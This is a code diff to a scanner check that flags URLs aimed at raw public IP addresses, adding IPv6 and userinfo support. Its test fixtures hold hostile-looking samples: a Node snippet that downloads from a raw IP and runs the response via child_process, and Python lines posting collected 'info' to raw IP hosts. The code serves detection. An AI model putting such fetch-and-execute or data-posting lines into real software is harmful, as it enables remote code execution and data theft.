@@ -1,7 +1,8 @@
 import type { FileCheck } from '../../check.ts';
 import { isCode } from '../../inventory/language.ts';
 
-const URL_WITH_ADDRESS = /\b(?:https?|wss?|ftp):\/\/((?:\d{1,3}\.){3}\d{1,3})(?::\d{1,5})?(?:\/[\w./?=&%~-]{0,150})?/g;
+const URL_WITH_ADDRESS =
+  /\b(?:https?|wss?|ftp):\/\/(?:[\w.:%-]{1,60}@)?((?:\d{1,3}\.){3}\d{1,3}|\[[0-9a-f:]{3,39}\])(?::\d{1,5})?(?:\/[\w./?=&%~-]{0,150})?/gi;
 /** Private, loopback, link-local, multicast and reserved ranges, and those kept for documentation. */
 const NOT_PUBLIC =
   /^(?:0|10|127)\.|^169\.254\.|^192\.168\.|^172\.(?:1[6-9]|2\d|3[01])\.|^100\.(?:6[4-9]|[7-9]\d|1[01]\d|12[0-7])\.|^192\.0\.[02]\.|^198\.(?:1[89]|51)\.|^203\.0\.113\.|^(?:22[4-9]|2[3-5]\d)\./;
@@ -30,6 +31,7 @@ export const check: FileCheck = {
         'index.js':
           "const cp = require('child_process');\nhttps.get('«http://45.77.12.90:8080/p»', (r) => cp.exec(r));\n",
       },
+      { 'six.py': 'requests.post("«https://root@[2a02:4780::9]/x»", json=info)\n' },
       { 'beat.py': 'requests.post("«http://185.12.45.9/api»", json=info)\n' },
     ],
     good: [
@@ -58,5 +60,6 @@ export const check: FileCheck = {
 };
 
 function isAddress(text: string): boolean {
+  if (text.startsWith('[')) return !/^\[(?:::1?|f[cd][0-9a-f]{2}:.*|fe80:.*|2001:db8:.*)\]$/i.test(text);
   return text.split('.').every((part) => Number(part) <= 255);
 }
